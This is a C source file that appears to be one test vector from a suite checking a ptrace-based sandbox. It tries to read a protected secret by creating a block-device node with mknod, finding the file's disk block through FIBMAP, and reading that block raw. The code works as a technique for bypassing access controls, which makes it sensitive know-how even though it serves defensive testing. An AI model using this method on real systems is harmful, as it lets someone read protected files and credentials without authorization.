/*
 * Vector 4: mknod a block device for the disk holding the secret in the
 * ALLOWED work dir, ask the filesystem where the secret's block is (FIBMAP) and
 * read it raw. No protected path is ever opened.
 * expect: ptrace_file|ptrace_process
 */
#include "esc.h"
#include <linux/fs.h>
#include <sys/ioctl.h>
#include <sys/sysmacros.h>

int main(void)
{
	struct stat st;
	if (stat(esc_secret_path(), &st) < 0)
		esc_broken("stat secret: %s", strerror(errno));
	if (major(st.st_dev) == 0)
		esc_skip("the fixture is on a virtual filesystem (dev %u:%u), no block device",
			 major(st.st_dev), minor(st.st_dev));
	/* The block map is asked through an allowed name of the same inode. */
	int fd = open(esc_fmt("%s/prelinked", esc_work()), O_RDONLY);
	int blk = 0, bsz = 0;
	if ((fd < 0 || ioctl(fd, FIGETBSZ, &bsz) < 0 || ioctl(fd, FIBMAP, &blk) < 0 || blk == 0) && esc_tracer_pid())
		esc_blocked("no block map under the tracer: %s", strerror(errno));
	if (fd < 0 || ioctl(fd, FIGETBSZ, &bsz) < 0 || ioctl(fd, FIBMAP, &blk) < 0 || blk == 0)
		esc_skip("no block map for the fixture (FIBMAP: %s; inline data?)", strerror(errno));
	close(fd);
	const char *node = esc_fmt("%s/disk", esc_work());
	unlink(node);
	if (mknod(node, S_IFBLK | 0600, st.st_dev) < 0)
		esc_blocked("mknod(block device %u:%u): %s", major(st.st_dev), minor(st.st_dev),
			    strerror(errno));
	int dev = open(node, O_RDONLY);
	if (dev < 0 && errno == EPERM && !esc_tracer_pid()) {
		unlink(node);
		esc_skip("this host forbids opening block devices (device cgroup): %s", strerror(errno));
	}
	if (dev < 0)
		esc_blocked("open block device: %s", strerror(errno));
	/* The page cache may not be on disk yet: ask for it first. */
	sync();
	char buf[4096];
	ssize_t n = pread(dev, buf, sizeof(buf), (off_t)blk * bsz);
	unlink(node);
	if (n > 0 && esc_is_secret(buf, (size_t)n))
		esc_success("read the secret raw from block %d of the disk", blk);
	esc_blocked("raw read of block %d did not show the secret", blk);
}
